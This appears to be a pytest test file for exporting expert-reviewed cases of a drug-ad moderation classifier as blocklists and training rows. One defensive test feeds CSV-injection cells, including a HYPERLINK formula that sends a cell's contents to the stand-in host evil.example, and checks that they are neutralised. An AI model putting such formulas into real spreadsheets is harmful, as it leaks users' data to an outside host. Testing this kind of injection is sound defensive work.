"""What leaves the store: decided cases for the blocking system, decisions as training rows
(``queue/exports.py``)."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest

from classifier import queue
from classifier.queue import CaseStore, export_cases, write_export
from scored_rows import scored

SHOP_KEY = "c:telegram:@shop_example"


@pytest.fixture()
def exported(store: CaseStore) -> list[dict[str, Any]]:
    """Four copies of one ad (one rejected by an expert, one nobody decided, which also gives a phone of
    its own), a mirror of the shop in a later run that an expert confirmed, a single site, and an
    unreviewed case."""
    store.add_scored(
        [
            scored("a", "https://shop.kz/ad", priority=0.9, cluster_id="k1", bank_keys=[SHOP_KEY]),
            scored("b", "https://mirror1.kz/ad", priority=0.8, cluster_id="k1"),
            scored("c", "https://mirror2.kz/ad", priority=0.7, cluster_id="k1"),
            scored(
                "f",
                "https://forum.kz/thread",
                priority=0.75,
                cluster_id="k1",
                bank_keys=[SHOP_KEY, "c:phone:+77000000009"],
            ),
            scored("d", "https://alone.kz/", priority=0.6, cluster_id="k2", bank_keys=["c:wallet:0xabc"]),
            scored("e", "https://other.kz/", priority=0.5, cluster_id="k3"),
        ]
    )
    ids = {c["url"]: c["id"] for c in store.cases()}
    # run 2 recognised the shop by its handle (score/known.py): the row names the shop it matched
    store.add_scored(
        [
            scored(
                "g",
                "https://shop-new.kz/",
                run_id="run-2",
                priority=0.4,
                bank_keys=[SHOP_KEY],
                linked_shops=[ids["https://shop.kz/ad"]],
                scored_at="2024-05-08T10:00:00+00:00",
            )
        ]
    )
    ids = {c["url"]: c["id"] for c in store.cases()}
    store.record_decision(ids["https://shop.kz/ad"], "confirmed", "expert-1")
    store.record_decision(ids["https://mirror1.kz/ad"], "confirmed", "expert-2")
    store.record_decision(ids["https://mirror2.kz/ad"], "rejected", "expert-2")
    store.record_decision(ids["https://shop-new.kz/"], "confirmed", "expert-2", category="recruitment")
    store.record_decision(ids["https://alone.kz/"], "unsure", "expert-1")
    store.record_decision(ids["https://alone.kz/"], "confirmed", "expert-3")
    return export_cases(store)


def test_export_cases_lists_confirmed_cases_with_the_urls_experts_decided_in_their_shop(
    exported: list[dict[str, Any]],
) -> None:
    assert [tuple(row) for row in exported] == [queue.EXPORT_FIELDS] * 4
    shop, mirror, alone, moved = exported
    assert shop["shop_id"] == mirror["shop_id"] == moved["shop_id"] == shop["case_id"] != alone["shop_id"]
    # the rejected copy and the copy nobody decided are left out, though the machine linked them
    assert shop["urls"] == ["https://shop.kz/ad", "https://mirror1.kz/ad", "https://shop-new.kz/"]
    assert mirror["urls"] == ["https://mirror1.kz/ad", "https://shop.kz/ad", "https://shop-new.kz/"]
    assert moved["urls"][0] == "https://shop-new.kz/" and len(moved["urls"]) == 3
    assert all("https://forum.kz/thread" not in row["urls"] for row in exported)
    # identifiers of the decided cases only: not the phone of the page nobody decided
    assert shop["identifiers"] == mirror["identifiers"] == {"telegram": ["@shop_example"]}
    assert alone["urls"] == ["https://alone.kz/"] and alone["identifiers"] == {"wallet": ["0xabc"]}
    assert alone["decision"] == "confirmed" and alone["expert"] == "expert-3"  # the latest decision
    assert shop["contacts"]["telegram"] == ["@shop"] and shop["model_version"] == "3"
    assert shop["domain"] == "shop.kz" and shop["category"] == "sale" and shop["score"] == 0.9
    assert moved["category"] == "recruitment"  # the category the expert named
    assert shop["decided_at"].endswith("+00:00")


def test_export_of_rejected_cases_follows_the_same_rule(store: CaseStore, exported: list) -> None:
    (rejected,) = export_cases(store, status="rejected")
    assert rejected["urls"] == ["https://mirror2.kz/ad"] and rejected["decision"] == "rejected"
    assert rejected["identifiers"] == {}


def test_write_export_csv_and_json(exported: list[dict[str, Any]], tmp_path: Path) -> None:
    csv_path = write_export(exported, tmp_path / "out" / "blocklist.csv")
    with csv_path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == list(queue.EXPORT_FIELDS)
    assert rows[0]["urls"] == "https://shop.kz/ad https://mirror1.kz/ad https://shop-new.kz/"
    assert json.loads(rows[0]["contacts"])["telegram"] == ["@shop"]
    assert json.loads(rows[0]["identifiers"]) == {"telegram": ["@shop_example"]}
    assert int(rows[0]["shop_id"]) == exported[0]["shop_id"]
    assert rows[2]["decision"] == "confirmed" and float(rows[2]["score"]) == 0.9

    json_path = write_export(exported, tmp_path / "blocklist.json")
    assert json.loads(json_path.read_text(encoding="utf-8")) == exported

    with pytest.raises(ValueError, match=r"\.csv, \.json"):
        write_export(exported, tmp_path / "blocklist.xlsx")


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"открыть")',
        "+7 700 123",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
    ],
)
def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(
    cell: str, exported: list[dict[str, Any]], tmp_path: Path
) -> None:
    hostile = [{**exported[0], "url": cell, "urls": [cell], "domain": cell, "contacts": cell, "expert": cell}]
    with write_export(hostile, tmp_path / "blocklist.csv").open(encoding="utf-8", newline="") as handle:
        [row] = list(csv.DictReader(handle))
    for name in ("url", "urls", "domain", "contacts", "expert"):
        assert row[name] == "'" + cell, name
    assert row["score"] == str(exported[0]["score"])  # numbers stay numbers
    assert (
        json.loads(write_export(hostile, tmp_path / "b.json").read_text(encoding="utf-8"))[0]["url"] == cell
    )


def test_training_tables_keep_their_text_and_tables_for_people_do_not(tmp_path: Path) -> None:
    from classifier.common.outputs import TableWriter

    row = {"id": "1", "text": "=1+1 закладки", "score": -0.5}
    for for_people, expected in ((False, "=1+1 закладки"), (True, "'=1+1 закладки")):
        path = tmp_path / f"{for_people}.csv"
        with TableWriter(path, list(row), for_people=for_people) as writer:
            writer.write([row])
        with path.open(encoding="utf-8", newline="") as handle:
            [written] = list(csv.DictReader(handle))
        assert written["text"] == expected and written["score"] == "-0.5"


def test_export_labels_gives_decided_cases_as_training_rows(store: CaseStore) -> None:
    from classifier.queue import export_labels

    store.add_scored(
        [
            scored("a", "https://a.example/", score=0.95, text="Закладки по городу, пиши @a_example"),
            scored(
                "b", "https://b.example/", score=0.2, category="none", text="Меф в наличии, пиши @b_example"
            ),
            scored("c", "https://c.example/", score=0.7, text="Новости: задержан курьер"),
            scored("d", "https://d.example/", score=0.6),  # no text kept: the excerpt stands in
            scored("e", "https://e.example/", score=0.9),
        ]
    )
    ids = {c["url"].split("//")[1][0]: c["id"] for c in store.cases()}
    store.record_decision(ids["a"], "confirmed", "expert-1", category="propaganda")
    store.record_decision(ids["b"], "confirmed", "expert-1")  # a violation the model missed
    store.record_decision(ids["c"], "rejected", "expert-2")
    store.record_decision(ids["d"], "confirmed", "expert-2")
    store.record_decision(ids["e"], "unsure", "expert-2")  # not an answer: not exported

    rows = {r["url"]: r for r in export_labels(store)}
    assert set(rows) == {
        "https://a.example/",
        "https://b.example/",
        "https://c.example/",
        "https://d.example/",
    }
    a, b, c, d = (rows[f"https://{k}.example/"] for k in "abcd")
    assert (a["label"], a["category"], a["text"]) == (1, "propaganda", "Закладки по городу, пиши @a_example")
    assert (b["label"], b["category"]) == (1, "sale")  # the model said "none"; a violation needs a category
    assert (c["label"], c["category"]) == (0, "none")
    assert d["text"] == "excerpt d"
    assert {r["source"] for r in rows.values()} == {"expert"}
    assert a["family"] == "expert:c-a" and a["expert"] == "expert-1" and a["model_version"] == "3"
    assert c["hard_negative"] and not a["hard_negative"]  # flagged by the model, cleared by an expert
    assert export_labels(store, since="2999-01-01") == []
    with pytest.raises(ValueError, match="ISO date"):
        export_labels(store, since="yesterday")
